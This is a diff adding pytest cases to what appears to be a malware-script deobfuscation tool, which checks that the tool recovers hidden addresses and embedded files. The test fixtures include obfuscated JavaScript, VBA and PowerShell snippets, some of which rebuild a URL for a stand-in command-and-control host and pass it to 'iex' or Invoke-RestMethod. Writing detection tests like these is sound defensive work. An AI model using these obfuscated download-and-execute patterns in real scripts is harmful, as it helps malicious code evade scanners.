@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import codecs
 import gzip
+import hashlib
 from collections.abc import Callable
 
 import pytest
@@ -50,12 +51,30 @@ JAVASCRIPT = {
     "added": f"a=[{','.join(str(1000 + ord(one)) for one in URL)}];for(i in a)o+=String.fromCharCode(a[i]-1000)",
     "twice": f"eval(atob('{base64.b64encode(f'go(atob({_B!r}))'.encode()).decode()}'))",
 }
+# How numbers were made of a text's characters, and code that undoes it; no word of the text is a known one.
+PLAIN = "shown by c2.malware.example"
+SUMS: dict[str, tuple[Callable[[int], int], str]] = {
+    "arrow": (lambda code: code + 700, "go([LIST].map(c=>c-700))"),
+    "function": (lambda code: code - 3, "go([LIST].map(function(c){return String.fromCharCode(c+3)}))"),
+    "two steps": (lambda code: code + 9 ^ 0x155, "a=[LIST];for(i=0;i<27;i++)s+=String.fromCharCode((a[i]^0x155)-9)"),
+    "wrapped": (lambda code: (code + 200) % 256, "b=new Uint8Array([LIST]);for(i in b)b[i]=(b[i]+56)&0xff"),
+    "constant first": (lambda code: 1255 - code, "go([LIST].map(n=>1255-n))"),
+    "split": (lambda code: code + 1234, "s='LIST'.split(',').map(n=>String.fromCharCode(n-1234)).join('')"),
+    "For Each": (lambda code: code + 0x2BC, "For Each c In Array(LIST)\ns = s & Chr(c - &H2BC)\nNext\nEnd Sub"),
+    "Xor": (lambda code: code ^ 513, "a = Array(LIST)\nFor i = 0 To 26\ns = s & Chr(a(i) Xor 513)\nNext\nEnd Sub"),
+    "pipe": (lambda code: code + 700, "$u=-join(LIST | % { [char]($_ - 700) }); iex $u"),
+    "-bxor": (lambda code: code ^ 513, "foreach($c in LIST){$u+=[char]($c -bxor 513)}; iex $u"),
+}
 OTHER: dict[str, str] = {
     "Chr": 'Dim a\na = Chr(&H68) & Chr(110+6) & Chr("116") & "p://c2.malware.example/gate"',
     "Split": f'For Each c In Split("{_codes("-")}","-"):x=x & Chr(c):Next\nEnd Sub',
     "StrReverse": f's = StrReverse("{URL[::-1]}")\nEnd Sub',
     "Replace": f's = Replace("{"@@".join(URL)}","@@","")\nEnd If',
     "Mid": f'Dim s\ns = Mid("xx{URL}yy", 3, {len(URL)})',
+    "ticks in a word": "Invoke-RestMethod h`ttp`://c2.`malware.ex`ample/g`ate",
+    "ticks in a text": '$u="http`:`/`/c2.malw`are.exam`ple/gate"; iex $u',
+    "ticks before a line's end": '$u="x`nhttp://c2.malware.example/gate`n"; iex $u',
+    "a code point behind a tick": '$u="htt`u{70}://c2.malware.example/gate"; iex $u',
     "format": "$a=\"{1}{0}\" -f 'malware.example/gate','http://c2.'; iex $a",
     "GetString": f"$u=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{_B}'))",
     "char": "$x=[char]104+[char]0x74+'tp://c2.malware.example/gate'",
@@ -81,6 +100,21 @@ OTHER: dict[str, str] = {
 def test_layers(code: str) -> None:
     """B50: an address that a script puts together by its own words stands in a layer."""
     assert any(URL in text for text in layers(code).texts)
+
+
+@pytest.mark.parametrize(("coded", "code"), SUMS.values(), ids=SUMS)
+def test_sums(coded: Callable[[int], int], code: str) -> None:
+    """B26: numbers on which a script does arithmetic come to the text that it makes of them."""
+    numbers = ",".join(str(coded(ord(one))) for one in PLAIN)
+    assert any(PLAIN in text for text in layers(code.replace("LIST", numbers)).texts)
+
+
+def test_sums_of_unknown_bytes() -> None:
+    """B26: bytes of no type are the script's where its sum alone makes bytes of the numbers, and not by a mask."""
+    data = bytes(range(7, 251, 3))
+    numbers = [byte + 700 for byte in data]
+    assert layers(f"b=new Uint8Array({numbers}.map(x=>x-700))").unknown == [data]
+    assert not layers(f"b=new Uint8Array({numbers}.map(x=>x%200))").unknown
 
 
 @pytest.mark.parametrize("code", ["x = y + z", "for (;;) {}", "$a = Get-Item", "if (a < b) { c(d) }", ""])
@@ -115,6 +149,8 @@ HOSTILE = {
     "filling": "$x='{0}{0}{0}{0}' -f " * 20_000 + "'a'",
     "blanks": "set x=" + " " * 500_000,
     "lines": "\n" * 500_000,
+    "codes": "11;" * 200_000,
+    "arithmetic": f"[{'7,' * 100_000}7];" + "".join(f"x-{number};" for number in range(100)),
     "dollars": "$a" * 200_000,
     "repeating": "x='a'.repeat(4000000);" * 100,
 }
@@ -240,3 +276,39 @@ def test_first_pieces_are_no_files() -> None:
     """Of a file in two variables the first, which decodes by itself, is not taken for another file."""
     coded = base64.b64encode(program()).decode()
     assert built(f"a='{coded[:800]}';b='{coded[800:]}';new Blob([atob(a+b)])").files == [program()]
+
+
+NOISE = hashlib.shake_128(b"noise").digest(900)
+_SAVED = "a.href=URL.createObjectURL(new Blob([b]));a.download='a.dat';"
+
+
+def _saved(code: str) -> bytes:
+    return f"<script>d='{base64.b64encode(NOISE).decode()}';{code}{_SAVED}</script>".encode()
+
+
+@pytest.mark.parametrize(
+    "code",
+    ["b=Uint8Array.from(atob(d),c=>c.charCodeAt(0));", "s=atob(d);for(i=0;i<s.length;i++)b[i]=s.charCodeAt(i);"],
+)
+def test_saved_file_without_a_type(read: Read, attach: Attach, code: str) -> None:
+    """B26: bytes of no known type that a page saves as they are become a part, with its hash."""
+    reading = read(attach("x", ("a.html", _saved(code))))
+    parts = [(part.sha256, part.names) for part in reading.parts if part.origin.reading == "script"]
+    assert (parts, reading.incomplete) == ([(hashlib.sha256(NOISE).hexdigest(), ("a.dat",))], ())
+
+
+@pytest.mark.parametrize(
+    "code",
+    ["for(i in d)b[i]=atob(d).charCodeAt(i)-k;", "b=decrypt(atob(d),k);", "for(i in d)b[i]=s[i]^k[i%4];", "b=d[1]+k;"],
+)
+def test_saved_file_that_is_altered(read: Read, attach: Attach, code: str) -> None:
+    """B26: bytes that a page changes before it saves them are a file that was not read."""
+    reading = read(attach("x", ("a.html", _saved(code))))
+    assert [gap.reason for gap in reading.incomplete] == ["unreadable"]
+
+
+def test_saved_file_in_pieces_of_no_type() -> None:
+    """B26: several large pieces of no type are no file of their own."""
+    pieces = [base64.b64encode(bytes(NOISE[::step]) + NOISE[step:]).decode() for step in (-1, 1)]
+    made = built(f"a='{pieces[0]}';b='{pieces[1]}';new Blob([f(a,b)]);x.download='a.dat'")
+    assert (made.files, made.unread) == ([], True)
